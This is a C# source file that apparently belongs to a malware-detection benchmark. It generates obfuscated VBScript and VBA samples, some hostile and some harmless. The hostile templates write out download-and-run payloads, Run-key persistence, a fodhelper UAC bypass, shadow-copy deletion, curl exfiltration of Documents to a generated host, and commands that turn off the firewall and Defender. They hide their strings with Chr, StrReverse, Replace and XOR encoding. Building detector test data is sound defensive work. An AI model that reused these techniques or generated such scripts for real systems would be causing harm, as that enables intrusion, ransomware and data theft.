using System.Globalization;
using Platform.Benchmarks.Runner;

namespace Platform.Benchmarks.Detection.Samples.Scripts;

/// <summary>Writes VBScript and VBA for an aim: texts by Chr, StrReverse, Replace, arrays under XOR; statements by Execute.</summary>
internal sealed class BasicCode(Random random, bool isVba)
{
    private readonly string _decode = $"{random.Word(5)}{random.Next(99)}";
    private readonly int _key = random.Next(1, 255);

    public string Hostile(ScriptAim aim, string entry = "")
    {
        var body = Plain(aim);
        if (!isVba && random.Chance(0.4) && !body.Contains("For Each", StringComparison.Ordinal))
            body = string.Concat(body.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => line.Contains(" = ", StringComparison.Ordinal) || random.Chance(0.5) ? line + "\n" : $"Execute {Text(line)}\n"));
        var decoder = $"Function {_decode}(a)\nFor i = LBound(a) To UBound(a)\n{_decode} = {_decode} & Chr(a(i) Xor {_key.ToString(CultureInfo.InvariantCulture)})\nNext\nEnd Function\n";
        return isVba ? $"Sub {entry}()\nOn Error Resume Next\n{body}End Sub\n{decoder}" : $"On Error Resume Next\n{body}{decoder}";
    }

    public string Harmless()
    {
        var (a, b) = (random.Word(), random.Word());
        return random.Pick((string[])
        [
            $"Set {a} = CreateObject(\"WScript.Network\")\n{a}.MapNetworkDrive \"Z:\", \"\\\\files\\{b}\"\n",
            $"Set {a} = CreateObject(\"Scripting.FileSystemObject\")\nFor Each f In {a}.GetFolder(\"C:\\Logs\").Files\nIf f.DateLastModified < Now - {random.Next(9, 90)} Then f.Delete\nNext\n",
            $"{a} = InputBox(\"{b}\")\nMsgBox \"{b}: \" & UCase({a})\n",
            $"For i = 1 To {random.Next(3, 40)}\n{a} = {a} + i * 2\nNext\nWScript.Echo {a}\n",
        ]);
    }

    public string Report(string entry)
    {
        var (a, b) = (random.Word(), random.Word());
        return random.Pick((string[])
        [
            $"Sub {entry}()\nDim {a} As Long\nFor {a} = 2 To {random.Next(10, 90)}\nCells({a}, 3).Value = Cells({a}, 1).Value * Cells({a}, 2).Value\nNext {a}\nMsgBox \"{b}\"\nEnd Sub\n",
            $"Sub {entry}()\nApplication.StatusBar = \"{b}\"\nRange(\"A1\").Value = Format(Now, \"yyyy-mm-dd\")\nEnd Sub\nSub {a}()\nColumns(\"A:F\").AutoFit\nEnd Sub\n",
            $"Sub {a}()\nOpen \"C:\\Reports\\{b}.csv\" For Output As #1\nFor r = 1 To {random.Next(5, 50)}\nPrint #1, Cells(r, 1) & \";\" & Cells(r, 2)\nNext\nClose #1\nEnd Sub\n",
            $"Function {a}(netto As Double) As Double\n{a} = Round(netto * 1.{random.Next(10, 25)}, 2)\nEnd Function\n",
        ]);
    }

    private string Plain(ScriptAim aim)
    {
        var (o, f) = (random.Word(5), random.Word(5));
        var shell = $"Set {o} = CreateObject({Text("WScript.Shell")})\n";
        var path = $"{o}.ExpandEnvironmentStrings({Text($"%{random.Pick(["TEMP", "APPDATA", "PUBLIC"])}%")}) & {Text($"\\{random.Word()}.{random.Pick(["exe", "scr"])}")}";
        if (aim == ScriptAim.Download)
        {
            var (h, s) = (random.Word(5) + "h", random.Word(5) + "s");
            return random.Chance(0.6)
                ? $"{shell}{f} = {path}\nSet {h} = CreateObject({Text(random.Pick(["MSXML2.XMLHTTP", "WinHttp.WinHttpRequest.5.1", "MSXML2.ServerXMLHTTP.6.0"]))})\n{h}.Open {Text("GET")}, {Text(ScriptFiles.Address(random, ".exe"))}, False\n{h}.Send\nSet {s} = CreateObject({Text("ADODB.Stream")})\n{s}.Type = 1\n{s}.Open\n{s}.Write {h}.responseBody\n{s}.SaveToFile {f}, 2\n{o}.Run {f}, 0, False\n"
                : $"{shell}{o}.Run {Text($"powershell -nop -w hidden -c \"iwr {ScriptFiles.Address(random)} -OutFile $env:TEMP\\a.exe; start $env:TEMP\\a.exe\"")}, 0\n";
        }

        if (aim == ScriptAim.Drop)
        {
            var (x, s) = (random.Word(5) + "x", random.Word(5) + "s");
            return $"{shell}{f} = {path}\nSet {x} = CreateObject({Text("MSXML2.DOMDocument")}).createElement(\"{random.Word()}\")\n{x}.DataType = {Text("bin.base64")}\n{x}.Text = \"{Convert.ToBase64String([.. "MZ\u0090\0"u8.ToArray(), .. random.Bytes(60)])}\"\nSet {s} = CreateObject({Text("ADODB.Stream")})\n{s}.Type = 1\n{s}.Open\n{s}.Write {x}.nodeTypedValue\n{s}.SaveToFile {f}, 2\n{o}.Run {f}\n";
        }

        if (aim == ScriptAim.Persist)
            return $"{shell}{f} = {path}\n{o}.RegWrite {Text($"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{random.Word()}")}, {f}, \"REG_SZ\"\n";
        if (aim == ScriptAim.Elevate)
            return $"{shell}{f} = {path}\n{o}.RegWrite {Text("HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\")}, {f}, \"REG_SZ\"\n{o}.Run {Text("fodhelper.exe")}, 0\n";
        if (aim == ScriptAim.Ransom)
            return random.Chance(0.5)
                ? $"{shell}{o}.Run {Text("cmd /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no")}, 0, True\n"
                : $"For Each {f} In GetObject({Text("winmgmts:\\\\.\\root\\cimv2")}).ExecQuery({Text("Select * From Win32_ShadowCopy")})\n{f}.Delete_\nNext\n";
        if (aim == ScriptAim.Exfiltrate)
            return $"{shell}{o}.Run {Text($"cmd /c curl -F file=@%USERPROFILE%\\Documents\\{random.Word()}.docx {ScriptFiles.Address(random)}")}, 0\n";
        return $"{shell}{o}.Run {Text(random.Pick(["cmd /c netsh advfirewall set allprofiles state off", "powershell -c Add-MpPreference -ExclusionPath C:\\", "taskkill /f /im MsMpEng.exe"]))}, 0\n";
    }

    private string Text(string text)
    {
        switch (random.Next(6))
        {
            case 0:
                var cut = random.Next(1, text.Length);
                return $"{Quoted(text[..cut])} & {Quoted(text[cut..])}";
            case 1:
                return $"StrReverse({Quoted(Reversed(text))})";
            case 2 when text.Length < 60:
                return string.Join(" & ", text.Select(c => random.Chance(0.3) ? $"Chr(&H{(int)c:X})" : $"Chr({(int)c})"));
            case 3:
                return $"{_decode}(Array({string.Join(", ", text.Select(c => c ^ _key))}))";
            case 4:
                var mark = random.Pick(["~~", "##", "@!"]);
                return $"Replace({Quoted(string.Concat(text.Select((c, index) => index > 0 && random.Chance(0.3) ? mark + c : c.ToString())))}, \"{mark}\", \"\")";
            default:
                return Quoted(text);
        }
    }

    private static string Quoted(string text) => $"\"{text.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";

    private static string Reversed(string text)
    {
        var letters = text.ToCharArray();
        Array.Reverse(letters);
        return new string(letters);
    }
}
